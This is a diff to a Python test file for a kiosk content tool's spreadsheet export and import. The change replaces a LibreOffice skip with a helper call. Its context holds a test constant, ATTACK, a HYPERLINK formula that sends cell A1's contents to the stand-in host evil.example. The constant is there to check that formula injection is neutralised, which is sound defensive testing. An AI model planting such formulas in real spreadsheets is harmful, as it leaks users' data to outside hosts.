@@ -19,6 +19,7 @@ from kiosk.content.change.importer import apply_content
 from kiosk.content.change.transfers import export_pack, export_workbook, import_pack, import_workbook
 from kiosk.content.formats.spreadsheet_text import FORMULA_START, protect, unprotect
 from kiosk.content.formats.workbook import read_workbook
+from tests.support.missing import missing_part
 
 ATTACK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
 #: Texts that must survive export and import unchanged, one per title language and the source quote.
@@ -102,7 +103,7 @@ def test_a_pack_import_warns_about_formula_like_text(db, tricky, tmp_path):
 def soffice(tmp_path_factory):
     exe = shutil.which("soffice") or shutil.which("libreoffice")
     if exe is None:
-        pytest.skip("LibreOffice is not installed (bash build_scripts/dev.sh test installs libreoffice-calc-nogui when run as root)")
+        missing_part("LibreOffice is not installed (bash build_scripts/dev.sh test installs libreoffice-calc-nogui when run as root)")
     profile = tmp_path_factory.mktemp("libreoffice-profile")
 
     def convert(source: Path, target: str) -> Path:
